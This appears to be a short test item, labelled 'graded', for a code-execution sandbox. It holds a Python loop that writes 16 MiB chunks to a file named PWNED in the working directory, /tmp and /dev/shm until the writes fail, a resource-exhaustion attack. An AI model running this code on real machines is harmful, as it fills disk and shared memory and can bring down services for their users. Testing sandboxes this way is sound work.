# Fill the disk with one file.
# ends: graded
# %%
for folder in (".", "/tmp", "/dev/shm"):
    with open(f"{folder}/PWNED", "wb") as file:
        while True:
            try:
                file.write(b"x" * 2**24)
            except OSError:
                break
